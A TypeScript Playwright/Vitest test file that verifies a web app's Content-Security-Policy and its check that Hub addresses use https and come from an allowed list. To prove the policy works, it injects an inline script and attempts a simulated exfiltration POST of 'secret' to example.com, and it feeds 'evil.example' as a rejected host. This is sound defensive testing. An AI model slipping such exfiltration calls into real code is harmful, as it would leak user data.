/**
 * The built app's Content-Security-Policy in Chromium: sent with the page and with every worker script (a <meta>
 * policy would not reach the workers), also in the built index.html; inline script and connections to other servers
 * blocked; the Hub address field refusing plain http and hosts the build does not allow, without a request going
 * out; every request of the visit going to the app's own origin.
 */
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser, recordNetwork, watchErrors } from './browser.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(';').map((d) => {
      const [name, ...sources] = d.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

describe('Content-Security-Policy', () => {
  it('is sent with the page and with each worker script, and written into index.html', async () => {
    const base = inject('baseUrl');
    const page = await fetch(base);
    const policy = page.headers.get('content-security-policy');
    expect(policy).not.toBeNull();
    const d = directives(policy!);
    expect(d.get('connect-src')).toEqual([
      "'self'",
      'https://huggingface.co',
      'https://*.huggingface.co',
      'https://*.hf.co',
      `http://127.0.0.1:${inject('hubPort')}`,
    ]);
    expect(d.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    // every script, the workers' among them (engine, dataset import, validators)
    const scripts = (await readdir(join('dist', 'assets'))).filter((f) => f.endsWith('.js'));
    expect(scripts.filter((f) => /^engine\.worker-/.test(f))).toHaveLength(1);
    for (const f of scripts)
      expect((await fetch(new URL(`assets/${f}`, base))).headers.get('content-security-policy'), f).toBe(policy);
    const html = await readFile(join('dist', 'index.html'), 'utf8');
    expect(html).toMatch(
      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; /,
    );
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(await readFile(join('dist', '_headers'), 'utf8')).toContain(`Content-Security-Policy: ${policy}`);
  });

  it('blocks inline script and connections to other servers; the Hub field refuses http and other hosts', async () => {
    const context = await browser.newContext();
    const net = recordNetwork(context);
    const page = await context.newPage();
    const errors = watchErrors(page);
    const base = inject('baseUrl');
    await page.goto(`${base}#/model`);
    await page.waitForSelector('input[name="repo"]');

    const inline = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.head.append(s);
      await new Promise((r) => setTimeout(r, 100));
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(inline).toBe(false);
    const outside = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
        return 'sent';
      } catch (err) {
        return (err as Error).name;
      }
    });
    expect(outside).toBe('TypeError');

    await page.locator('summary', { hasText: 'Hub address' }).click();
    await page.locator('input[name="repo"]').fill('tiny/llama');
    for (const [address, message] of [
      ['http://example.com', /is not https/],
      ['https://evil.example', /not a Hub this app may connect to/],
      [`http://127.0.0.1:${inject('hubPort') + 1}`, /not a Hub this app may connect to/],
    ] as const) {
      await page.locator('input[name="hub"]').fill(address);
      await page.getByRole('button', { name: 'Look up' }).click();
      await expect.poll(() => page.locator('[role="alert"]').innerText()).toMatch(message);
    }
    expect(net.outside([new URL(base).origin])).toEqual([]);
    // the recorder saw the two violations the test provoked, and nothing else broke the policy
    expect(net.violations.some((v) => /connect-src.*example\.com/.test(v))).toBe(true);
    expect(net.violations.some((v) => /script-src.*inline/.test(v))).toBe(true);
    expect(net.violations.filter((v) => !/example\.com|inline/.test(v))).toEqual([]);
    expect(errors.filter((e) => !/Content Security Policy|Refused to|Failed to fetch|example\.com/.test(e))).toEqual(
      [],
    );
    await context.close();
  });
});
